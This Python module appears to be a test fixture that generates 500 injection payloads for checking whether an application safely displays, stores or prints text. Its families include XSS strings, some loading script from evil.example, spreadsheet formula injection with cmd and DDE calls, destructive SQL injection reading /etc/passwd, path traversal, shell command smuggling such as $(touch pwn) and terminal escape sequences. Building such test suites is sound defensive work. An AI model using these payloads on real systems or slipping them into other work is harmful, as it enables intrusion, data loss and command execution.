"""Five hundred texts that attack whatever shows, runs, stores or prints them: each family in turn, each text different.

Where one of them works in a browser it sets `window.__fired`, makes an element of the class `pwn` or one that holds
only that word, or asks for something at evil.example.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle, islice, product, zip_longest

HOW_MANY = 500
_ELEMENTS = (
    "img src=x onerror",
    "svg onload",
    "body onload",
    "input autofocus onfocus",
    "details open ontoggle",
    "video src=x onerror",
    "audio src=x onerror",
    "marquee onstart",
    "select autofocus onfocus",
    "a href=x onmouseover",
    "math href=javascript:1 onclick",
    "style onload",
    "object data=x onerror",
    "button popovertarget=x onbeforetoggle",
    "svg><animate onbegin",
    "image/src/onerror",
    "div style=animation-name:x onanimationstart",
)
_AROUND_HTML = (
    "{}",
    '">{}',
    "'>{}",
    "</script>{}",
    "</title></textarea>{}",
    "<!--{}-->",
    "]]>{}",
    "&lt;b&gt;{}",
    "`{}`",
    "<noscript>{}</noscript>",
)
_SCRIPTS = (
    "<script>window.__fired={n}</script>",
    "<ScRiPt>window.__fired={n}</sCrIpT>",
    "<script/x>window.__fired={n}</script>",
    "<script src=//evil.example/{n}.js></script>",
    "<scr<script>ipt>window.__fired={n}</scr</script>ipt>",
    "<iframe srcdoc='<script>parent.__fired={n}</script>' class=pwn></iframe>",
    "<base href=//evil.example/{n}>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<form action=//evil.example/{n} class=pwn><button>pwn</button></form>",
    "</style><b class=pwn>{n}</b>",
    "\\u003cscript\\u003ewindow.__fired={n}\\u003c/script\\u003e",
    "&#60;script&#62;window.__fired={n}&#60;/script&#62;",
    "'-(window.__fired={n})-'",
    '";window.__fired={n};//',
    "`${{window.__fired={n}}}`",
)
_LINKS = (
    "[pwn](javascript:window.__fired={n})",
    "![pwn](https://evil.example/{n}.png)",
    "<https://evil.example/{n}>",
    "[pwn]: https://evil.example/{n}",
    "[pwn](data:text/html,{n})",
    "<a href='https://evil.example/{n}'>pwn</a>",
    "[![pwn](//evil.example/{n}.png)](//evil.example/{n})",
    "[pwn](vbscript:{n})",
    "[pwn](<//evil.example/{n}>)",
)
_MARKDOWN = (
    "**pwn** {n}",
    "*pwn* {n}",
    ":red[pwn] {n}",
    ":material/bug_report: {n}",
    "$\\frac{{p}}{{w}}$ {n}",
    "`pwn` {n}",
    "~~pwn~~ {n}",
    "# pwn {n}",
    "| pwn | {n} |",
    ":blue-background[pwn] {n}",
    ":small[pwn] {n}",
    "__pwn__ {n}",
)
_TEMPLATES = (
    "{{{{7*{n}}}}}",
    "${{7*{n}}}",
    "<%= 7*{n} %>",
    "#{{7*{n}}}",
    "%{{text}} {n}",
    "%(n)s {n}",
    "{{0}} {{n}} {n}",
    "{{% import os %}} {n}",
    "{{self.__class__}} {n}",
    "%s%n%x {n}",
)
_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    '"=',
    "'=",
    "\ufeff=",
    "x;=",
    "x\t=",
)
_FORMULAS = (
    'HYPERLINK("https://evil.example/{n}","pwn")',
    "cmd|' /C calc'!A{n}",
    "SUM(A1:A{n})",
    "1+{n}",
    'WEBSERVICE("https://evil.example/{n}")',
    'IMPORTXML("https://evil.example/{n}","//a")',
    'DDE("cmd";"{n}")',
)
_QUOTES = ("'", '"', "')", '")', "]]", "$$", "`", "\\'", "''", "/*")
_SQL = (
    "; DROP TABLE lines; -- {n}",
    " OR 1={n} --",
    "; DELETE FROM versions; -- {n}",
    " UNION SELECT {n}, name FROM datasets --",
    "; ATTACH '/tmp/pwn{n}.db'; --",
    "; COPY (SELECT {n}) TO '/tmp/pwn.csv'; --",
    " || read_text('/etc/passwd') || {n}",
    "; INSTALL httpfs; LOAD httpfs; -- {n}",
    "; PRAGMA user_version = {n}; --",
    "; UPDATE lines SET amount = {n}; --",
)
_PATHS = (
    "../../../../tmp/pwn{n}",
    "..\\..\\pwn{n}",
    "/etc/passwd {n}",
    "file:///etc/passwd#{n}",
    "C:\\pwn{n}",
    "\\\\evil.example\\{n}",
    "~/.pwn{n}",
    "pwn{n}/../../x",
    "%2e%2e%2fpwn{n}",
    "$(touch pwn{n})",
    "`touch pwn{n}`",
    "| touch pwn{n}",
    "--pwn={n}",
)
_TERMINAL = (
    "\x1b[31mpwn {n}",
    "\x1b]0;pwn {n}\x07",
    "\x1b]8;;https://evil.example/{n}\x1b\\pwn",
    "\x9b2J pwn {n}",
    "\u202epwn {n}",
    "pwn\x08\x08\x08 {n}",
    "\x1b[2J\x1b[H {n}",
    "pwn \u2066{n}\u2069",
    "\x07 pwn {n}",
    "pwn\x7f {n}",
    "\x1bP+q {n}\x1b\\",
    'pwn", "by": "user:{n}',
    '{{"entry": {n}}}',
    "pwn {n}\u2028\u2029",
)


def _families() -> Iterator[Iterator[str]]:
    yield (around.format(f"<{one}=window.__fired={{n}} class=pwn>") for one, around in product(_ELEMENTS, _AROUND_HTML))
    yield (start + one for one, start in product(_FORMULAS, _STARTS))
    yield (quote + one for one, quote in product(_SQL, _QUOTES))
    for family in (_SCRIPTS, _LINKS, _MARKDOWN, _TEMPLATES, _PATHS, _TERMINAL):
        yield islice(cycle(family), 2 * len(family))


def _made() -> Iterator[str]:
    """One of each family in turn, as long as they last; `{n}` is where it stands among all."""
    turns = zip_longest(*_families())
    for n, one in enumerate(each for turn in turns for each in turn if each is not None):
        yield one.replace("{n}", str(n)).replace("{{", "{").replace("}}", "}")


PAYLOADS = tuple(islice(_made(), HOW_MANY))
"""All different."""
